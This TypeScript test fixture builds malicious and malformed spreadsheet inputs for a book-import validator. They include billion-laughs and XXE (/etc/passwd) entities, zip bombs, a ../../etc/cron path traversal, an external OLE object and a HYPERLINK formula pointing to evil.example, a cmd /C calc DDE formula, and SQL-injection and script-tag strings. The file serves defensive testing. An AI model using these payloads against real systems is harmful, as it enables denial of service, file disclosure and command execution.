import { makeDocx } from '../files/make/makeDocx.ts';
import { makeZip } from '../files/make/makeZip.ts';
import { bookRow, bookTitles, makeXlsx, numberCell, textCell } from './makeXlsx.ts';

/** A malicious or broken workbook. */
export interface HostileSheet {
  readonly what: string;
  readonly name?: string;
  readonly content: Buffer;
}

const declared = (entities: string): string =>
  `<?xml version="1.0"?><!DOCTYPE worksheet [${entities}]><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1">${bookTitles.map((title) => textCell('', title)).join('')}</row>${bookRow(2, { B: textCell('B2', '&lol9;') })}</sheetData></worksheet>`;

export const laughs = Array.from({ length: 9 }, (_, level) => {
  const before = level === 0 ? 'ha' : `&lol${level};`.repeat(10);
  return `<!ENTITY lol${level + 1} "${before}">`;
}).join('');

export function rowsOf(count: number, row: (number: number) => string): string {
  return Array.from({ length: count }, (_, index) => row(index + 2)).join('');
}

/** Returns a text that hardly compresses, so that only its length is unusual. */
function noise(length: number): string {
  let state = 7;
  let text = '';
  while (text.length < length) {
    state = (state * 1_103_515_245 + 12_345) % 2_147_483_648;
    text += state.toString(36);
  }
  return text.slice(0, length);
}

/** Returns rows of a few kB that need gigabytes of memory if each cell copies the shared text. */
export function sharedText({
  columns,
  rows,
  letters = 32_760,
}: Record<'columns' | 'rows', number> & { letters?: number }) {
  const cells = '<c t="s"><v>0</v></c>'.repeat(columns);
  return { strings: ['x'.repeat(letters)], rows: rowsOf(rows, (row) => `<row r="${row}">${cells}</row>`) };
}

export function mergedCells(count: number, range: string): string {
  return `<mergeCells count="${count}">${`<mergeCell ref="${range}"/>`.repeat(count)}</mergeCells>`;
}

/** Returns workbooks that are refused as a whole. */
export function refusedSheets(): readonly HostileSheet[] {
  const good = makeXlsx();
  return [
    { what: 'a table of commas with another name', content: Buffer.from('ISBN,Title\n1001,Emma\n') },
    {
      what: 'a page of HTML that Excel would open',
      content: Buffer.from('<html><table><tr><td>ISBN</td></tr></table>'),
    },
    { what: 'a workbook behind a password', content: Buffer.from(`d0cf11e0a1b11ae1${'00'.repeat(1600)}`, 'hex') },
    { what: 'a text document with another name', content: makeDocx() },
    { what: 'an empty file', content: Buffer.alloc(0) },
    { what: 'a file that was cut off', content: good.subarray(0, good.length - 300) },
    { what: 'an archive without a workbook', content: makeZip([{ name: 'a.txt', content: 'a' }]) },
    { what: 'macros', content: makeXlsx({ parts: [{ name: 'xl/vbaProject.bin', content: 'macro' }] }) },
    { what: 'macros with the name of a workbook without', name: 'books.xlsm', content: good },
    {
      what: 'a control that runs',
      content: makeXlsx({ parts: [{ name: 'xl/activeX/activeX1.xml', content: '<a/>' }] }),
    },
    { what: 'a program inside', content: makeXlsx({ parts: [{ name: 'xl/embeddings/run.exe', content: 'MZ' }] }) },
    {
      what: 'an object that is loaded from elsewhere',
      content: makeXlsx({
        parts: [
          {
            name: 'xl/worksheets/_rels/sheet1.xml.rels',
            content:
              '<Relationships><Relationship Id="rId1" Type="http://x/oleObject" Target="http://evil.example/a" TargetMode="External"/></Relationships>',
          },
        ],
      }),
    },
    {
      what: 'a part behind a password',
      content: makeXlsx({ parts: [{ name: 'xl/theme.xml', content: 'secret', flags: 1 }] }),
    },
    { what: 'a part outside of its folder', content: makeXlsx({ parts: [{ name: '../../etc/cron', content: 'x' }] }) },
    {
      what: 'two parts of one name',
      content: makeXlsx({
        parts: [
          { name: 'xl/extra.xml', content: '<a/>' },
          { name: 'XL/EXTRA.xml', content: '<b/>' },
        ],
      }),
    },
    {
      what: 'a part that is larger than it says',
      content: makeXlsx({ parts: [{ name: 'xl/extra.xml', content: 'x'.repeat(5000), statedSize: 10 }] }),
    },
    {
      what: 'a bomb of zeros',
      content: makeXlsx({ parts: [{ name: 'xl/media/image1.png', content: Buffer.alloc(30_000_000) }] }),
    },
    {
      what: 'parts that unpack to more than is read',
      content: makeXlsx({
        parts: Array.from({ length: 9 }, (_, index) => ({
          name: `xl/extra${index}.xml`,
          content: `<a>${(noise(60_000) + 'a'.repeat(1_900_000)).repeat(4)}</a>`,
        })),
      }),
    },
    { what: 'a billion laughs', content: makeXlsx({ sheet: declared(laughs) }) },
    {
      what: 'a file of the server as an entity',
      content: makeXlsx({ sheet: declared('<!ENTITY lol9 SYSTEM "file:///etc/passwd">') }),
    },
    {
      what: 'entities in the shared texts',
      content: makeXlsx({ parts: [{ name: 'xl/sharedStrings.xml', content: `<!DOCTYPE sst [${laughs}]><sst/>` }] }),
    },
    {
      what: 'entities in letters of two bytes',
      content: makeXlsx({
        parts: [{ name: 'xl/extra.xml', content: Buffer.from(`\ufeff<!DOCTYPE a [${laughs}]><a/>`, 'utf16le') }],
      }),
    },
    { what: 'a million empty rows', content: makeXlsx({ rows: rowsOf(1_000_000, (row) => `<row r="${row}"/>`) }) },
    { what: 'more rows than are imported', content: makeXlsx({ rows: rowsOf(10_001, (row) => bookRow(row)) }) },
    {
      what: 'a row of two million cells',
      content: makeXlsx({ rows: `<row r="2">${'<c><v>1</v></c>'.repeat(2_000_000)}</row>` }),
    },
    {
      what: 'a cell in the last corner',
      content: makeXlsx({ rows: `${bookRow(2)}<row r="1048576">${textCell('XFD1048576', 'x')}</row>` }),
    },
    { what: 'a text that all cells share', content: makeXlsx(sharedText({ columns: 90, rows: 1000 })) },
    { what: 'merged cells over merged cells', content: makeXlsx({ after: mergedCells(50_000, 'A2:XFD1048576') }) },
    { what: 'no rows', content: makeXlsx({ rows: '' }) },
    { what: 'rows of spaces alone', content: makeXlsx({ rows: `<row r="2">${textCell('A2', '   ')}</row>` }) },
    { what: 'no titles', content: makeXlsx({ titles: [] }) },
    { what: 'titles without a required one', content: makeXlsx({ titles: ['ISBN', 'Copies'] }) },
    { what: 'a title twice', content: makeXlsx({ titles: [...bookTitles, ' title '] }) },
    { what: 'rows in a hidden sheet alone', content: makeXlsx({ attributes: 'state="hidden"' }) },
    { what: 'rows in a very hidden sheet alone', content: makeXlsx({ attributes: 'state="veryHidden"' }) },
    { what: 'no sheets', content: makeXlsx({ sheets: '' }) },
    {
      what: 'a sheet that is not there',
      content: makeXlsx({ sheets: '<sheet name="A" sheetId="1" r:id="rId9"/>' }),
    },
    { what: 'a sheet that is not XML', content: makeXlsx({ sheet: 'not a sheet at all' }) },
  ];
}

/** Cells that replace valid ones, and the expected message of the row, or undefined if the row is valid. */
export interface HostileRow {
  readonly what: string;
  readonly cells: Readonly<Record<string, string>>;
  readonly says?: string;
}

const formula = (at: string, source: string, value: string): string =>
  `<c r="${at}"><f>${source}</f><v>${value}</v></c>`;

/** Rows whose problems are reported per row. */
export const hostileRows: readonly HostileRow[] = [
  {
    what: 'a formula',
    cells: { C: formula('C2', 'SUM(A1:A9)', '3') },
    says: 'Copies contains a formula. Replace it by its value',
  },
  {
    what: 'a formula that calls a program',
    cells: { B: formula('B2', "cmd|' /C calc'!A0", '1') },
    says: 'Title contains a formula. Replace it by its value',
  },
  {
    what: 'a formula that loads an address',
    cells: { B: formula('B2', 'HYPERLINK(&quot;http://evil.example&quot;)', '1') },
    says: 'Title contains a formula. Replace it by its value',
  },
  { what: 'a no as LibreOffice saves it', cells: { E: formula('E2', 'FALSE()', '0') } },
  {
    what: 'a formula that only contains one',
    cells: { E: formula('E2', 'IF(TRUE(),1,0)', '1') },
    says: 'Rare contains a formula. Replace it by its value',
  },
  { what: 'a text that looks like a formula', cells: { B: textCell('B2', '=1+1') } },
  { what: 'a text that begins with a plus', cells: { B: textCell('B2', '+cmd|calc') } },
  { what: 'a text that begins with an at', cells: { B: textCell('B2', '@SUM(A1)') } },
  {
    what: 'an error',
    cells: { C: '<c r="C2" t="e"><v>#REF!</v></c>' },
    says: 'Copies contains an error of the spreadsheet: #REF!',
  },
  { what: 'a text for a number', cells: { C: textCell('C2', 'many') }, says: 'Copies is not valid' },
  { what: 'a part of a copy', cells: { C: numberCell('C2', 2.5) }, says: 'Copies is not valid' },
  { what: 'less than nothing', cells: { C: numberCell('C2', -1) }, says: 'Copies must be at least 0' },
  { what: 'a number beyond all', cells: { C: numberCell('C2', '1e308') }, says: 'Copies is not valid' },
  { what: 'a number that is none', cells: { C: numberCell('C2', 'NaN') }, says: 'Copies is not valid' },
  { what: 'a day for a number', cells: { C: numberCell('C2', 46_000, 1) }, says: 'Copies is not valid' },
  { what: 'a number in a text', cells: { C: textCell('C2', '9') } },
  { what: 'a yes for a number', cells: { C: '<c r="C2" t="b"><v>1</v></c>' }, says: 'Copies is not valid' },
  { what: 'a number for a day', cells: { D: numberCell('D2', 46_000) }, says: 'Bought is not valid' },
  { what: 'a day in words', cells: { D: textCell('D2', 'last Tuesday') }, says: 'Bought is not valid' },
  { what: 'a day that is none', cells: { D: textCell('D2', '2026-02-30') }, says: 'Bought is not valid' },
  { what: 'a day as it is written', cells: { D: textCell('D2', '2026-02-28') } },
  { what: 'a day of the century before', cells: { D: numberCell('D2', -5000, 1) } },
  { what: 'a day after all', cells: { D: numberCell('D2', 99_999_999, 1) }, says: 'Bought is not valid' },
  { what: 'perhaps for a yes', cells: { E: textCell('E2', 'perhaps') }, says: 'Rare is not valid' },
  { what: 'a yes in words', cells: { E: textCell('E2', 'YES') } },
  { what: 'a rule that is broken', cells: { C: numberCell('C2', 50) }, says: 'Too many copies' },
  {
    what: 'a text that is too long',
    cells: { B: textCell('B2', 'x'.repeat(32_767)) },
    says: 'Title must have no more than 40 characters',
  },
  { what: 'a required cell that is empty', cells: { B: '' }, says: 'Title is required' },
  { what: 'a text for a key of digits', cells: { A: textCell('A2', "1' or '1'='1") }, says: 'ISBN is not valid' },
  { what: 'a text that is not there', cells: { B: '<c r="B2" t="s"><v>99</v></c>' }, says: 'Title is required' },
  {
    what: 'a text with zeros',
    cells: { B: textCell('B2', 'a_x0000_b') },
    says: 'Some fields are not filled in correctly.',
  },
  { what: 'markup', cells: { B: textCell('B2', '&lt;script&gt;alert(1)&lt;/script&gt;') } },
  { what: 'a text that turns its direction', cells: { B: textCell('B2', '\u202Etxt.exe') } },
];
